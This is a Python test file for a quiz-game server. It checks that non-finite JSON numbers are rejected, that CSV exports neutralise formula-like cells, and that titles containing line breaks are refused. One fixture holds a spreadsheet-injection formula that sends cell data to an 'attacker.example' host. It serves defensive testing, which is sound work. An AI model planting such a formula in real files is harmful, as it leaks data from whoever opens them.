"""Input the server and the exports must not trust: numbers JSON has no word for (``NaN``,
``Infinity``), names a spreadsheet would run as formulas, titles with line breaks."""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path

import httpx
import pytest
from live import Client, LiveServer, clients, two_teams
from sqlmodel import Session, select
from test_analyze_record import PACKET, T0, _now
from test_sqbs import export as sqbs_export
from test_stats import played_event
from typer.testing import CliRunner

from grace_arena.analysis.frames import read_buzzes, spreadsheet_safe, spreadsheet_text
from grace_arena.cli import app
from grace_arena.core.commands import Buzz, Join, Reveal, Rule, StartTossup
from grace_arena.core.config import ScoringRules, TeamSpec
from grace_arena.core.events import BuzzTiming, Ruling
from grace_arena.core.packet import SAMPLE_PACKET_PATH
from grace_arena.core.specs import match_config
from grace_arena.io.exports import export
from grace_arena.record.models import ArenaEventRow
from grace_arena.record.schedule import TeamEntry, create_event
from grace_arena.record.store import RecordError
from grace_arena.server.app import Settings

# ---------------------------------------------------------------------------------------------
# NaN and Infinity in a body: a 422 that names the field, never a 500


@pytest.fixture
def server(db_url) -> LiveServer:
    settings = Settings(
        db_url=db_url,
        packets=[SAMPLE_PACKET_PATH],
        secret="hygiene",
        first_match=two_teams(),
        survey_packets=[SAMPLE_PACKET_PATH],
    )
    with LiveServer(settings) as live:
        yield live


def _json(http: httpx.Client, method: str, url: str, body: str, **headers: str) -> httpx.Response:
    return http.request(
        method, url, content=body.encode(), headers={"content-type": "application/json", **headers}
    )


@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity"])
def test_a_non_finite_number_in_a_body_is_a_422_naming_its_field(server, number) -> None:
    code = next(iter(server.app.state.surveys.plans))
    bearer = {"authorization": f"Bearer {server.events.tokens.server()}"}
    with httpx.Client(base_url=server.http_url, timeout=20) as http:
        # the survey takes names from anyone: no token needed to reach the validation
        reply = _json(http, "POST", f"/api/survey/{code}/participants", f'{{"name": {number}}}')
        assert reply.status_code == 422, reply.text
        (error,) = reply.json()["detail"]
        assert error["loc"] == ["body", "name"]
        joined = _json(http, "POST", f"/api/survey/{code}/participants", '{"name": "Ann"}').json()
        answer = (
            '{"tossup_id": "t", "step": 0, "guess": "", "would_buzz": false, '
            f'"client_latency_s": {number}}}'
        )
        reply = _json(
            http,
            "PUT",
            f"/api/survey/{code}/answer",
            answer,
            authorization=f"Bearer {joined['token']}",
        )
        assert reply.status_code == 422, reply.text
        (error,) = reply.json()["detail"]
        assert error["loc"] == ["body", "client_latency_s"]
        assert "finite" in error["msg"]
        setup = json.loads(two_teams().model_dump_json())
        for field in ("wpm", "answer_time", "buzz_window"):
            body = json.dumps({**setup, field: 0}).replace(f'"{field}": 0', f'"{field}": {number}')
            reply = _json(http, "POST", "/api/matches", body, **bearer)
            assert reply.status_code == 422, (field, reply.text)
            assert any(e["loc"][:2] == ["body", field] for e in reply.json()["detail"]), reply.text
        assert http.get("/api/health").status_code == 200


def test_a_non_finite_number_on_the_websocket_gets_an_error_reply(server) -> None:
    with clients(Client(server.ws_url)) as (phone,):
        phone.send_raw('{"type": "hello", "role": "player", "join_code": NaN}')
        error = phone.wait("error")
        assert error["code"] == "bad_message"
        phone.send_raw('{"type": "pong", "sent": Infinity, "time": NaN}')
        assert phone.wait("error")["code"] == "bad_message"


# ---------------------------------------------------------------------------------------------
# CSV cells that a spreadsheet would run


FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")'


def _match_with_hostile_names(store) -> int:
    store.save_packet(PACKET)
    teams = [TeamSpec(id="red", name="+Red"), TeamSpec(id="blue", name="Blue")]
    config = match_config(
        PACKET, teams, rules=ScoringRules(answer_time=None, buzz_window=0.0), title="@title"
    )
    clock = [T0]
    rm = store.create(config, now=clock[0])
    rm.handle(Join(team="red", player="r1", name=FORMULA), now=_now(clock))
    rm.handle(Join(team="blue", player="b1", name="'=quoted"), now=_now(clock))
    rm.handle(StartTossup(tossup_id="fa-1"), now=_now(clock))
    rm.handle(Reveal(to=2), now=_now(clock))
    timing = BuzzTiming(received_mono=10.0, received_wall=clock[0])
    rm.handle(Buzz(team="red", player="r1", answer="-1+2", timing=timing), now=_now(clock))
    rm.handle(Rule(ruling=Ruling.INCORRECT), now=_now(clock))
    rm.handle(Reveal(to=4), now=_now(clock))
    rm.handle(Buzz(team="blue", player="b1", answer="@SUM(A1)", timing=timing), now=_now(clock))
    rm.handle(Rule(ruling=Ruling.CORRECT), now=_now(clock))
    return rm.id


def test_csv_cells_a_spreadsheet_would_run_are_quoted_and_numbers_stay_numbers(
    store, tmp_path: Path
) -> None:
    match_id = _match_with_hostile_names(store)
    out = tmp_path / "buzzes.csv"
    export(store.engine, "csv", out, [match_id])
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    neg = next(r for r in rows if r["points"].startswith("-"))
    assert neg["player"] == "'" + FORMULA
    assert neg["team"] == "'+Red"
    assert neg["answer"] == "'-1+2"
    assert int(neg["points"]) < 0  # a number: written as it is
    right = next(r for r in rows if r["team"] == "Blue")
    assert right["player"] == "''=quoted"  # quoted once more: it reads back as it was
    assert right["answer"] == "'@SUM(A1)"
    for row in rows:
        for column, cell in row.items():
            if cell.startswith(("=", "+", "@", "\t", "\r")) or (
                cell.startswith("-") and not _is_number(cell)
            ):
                pytest.fail(f"{column}: {cell!r} would run in a spreadsheet")
    # the analysis reads the names back as they were given
    buzzes, _ = read_buzzes(out)
    assert {FORMULA, "'=quoted"} <= set(buzzes["player"])
    assert "+Red" in set(buzzes["team"])


def _is_number(cell: str) -> bool:
    try:
        return math.isfinite(float(cell))
    except ValueError:
        return False


@pytest.mark.parametrize(
    "text", ["", "Red", "=1+1", "-", "'", "''", "'=x", "''=x", "\tx", "\rx", "+", "@a", "a=b"]
)
def test_spreadsheet_safe_reads_back_as_it_was(text: str) -> None:
    cell = spreadsheet_safe(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert spreadsheet_text(cell) == text


# ---------------------------------------------------------------------------------------------
# Line breaks in titles: refused where they are given, and never in an SQBS file


BROKEN_TITLES = ["Club\nNight", "Club\r\nNight", "Club\u2028Night", "Club\x85Night"]


@pytest.mark.parametrize("title", BROKEN_TITLES)
def test_a_title_with_a_line_break_is_refused_by_event_create(db_url, title) -> None:
    result = CliRunner().invoke(
        app,
        ["event", "create", "night", "--title", title, "--team", "Red", "--team", "Blue",
         "--db", db_url],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    assert "one line" in result.output
    result = CliRunner().invoke(
        app, ["event", "create", "a\nb", "--team", "Red", "--team", "Blue", "--db", db_url]
    )
    assert result.exit_code == 2, result.output
    assert "one line" in result.output


def test_a_title_with_a_line_break_is_refused_by_the_record(store) -> None:
    teams = [TeamEntry(id="red", name="Red"), TeamEntry(id="blue", name="Blue")]
    with pytest.raises(RecordError, match="one line"):
        create_event(store.engine, "night", title="Club\nNight", teams=teams)


def test_a_match_title_with_a_line_break_is_a_422(server) -> None:
    bearer = {"authorization": f"Bearer {server.events.tokens.server()}"}
    with httpx.Client(base_url=server.http_url, timeout=20) as http:
        for title in BROKEN_TITLES:
            body = two_teams(title="x").model_dump_json().replace('"x"', json.dumps(title))
            reply = _json(http, "POST", "/api/matches", body, **bearer)
            assert reply.status_code == 422, reply.text
            (error,) = reply.json()["detail"]
            assert error["loc"] == ["body", "title"] and "one line" in error["msg"]
        body = two_teams(title="Club Night").model_dump_json()
        assert _json(http, "POST", "/api/matches", body, **bearer).status_code == 201


def test_a_title_with_a_line_break_in_an_old_record_stays_on_its_line_in_sqbs(
    db_url, tmp_path
) -> None:
    _, engine = played_event(db_url)
    out = tmp_path / "clean.sqbs"
    assert sqbs_export(db_url, out).exit_code == 0
    clean = out.read_bytes().split(b"\r\n")
    with Session(engine) as session:  # as a record written before titles were checked
        row = session.exec(select(ArenaEventRow).where(ArenaEventRow.name == "stats")).one()
        row.title = "Club\r\nNight\n=1+1"
        session.add(row)
        session.commit()
    engine.dispose()
    result = sqbs_export(db_url, out)
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert b"\n" not in raw.replace(b"\r\n", b"")
    lines = raw.split(b"\r\n")
    assert len(lines) == len(clean)
    changed = [(a, b) for a, b in zip(lines, clean, strict=True) if a != b]
    assert [new for new, _ in changed] == [b"Club Night =1+1"]  # the title's line, and no other
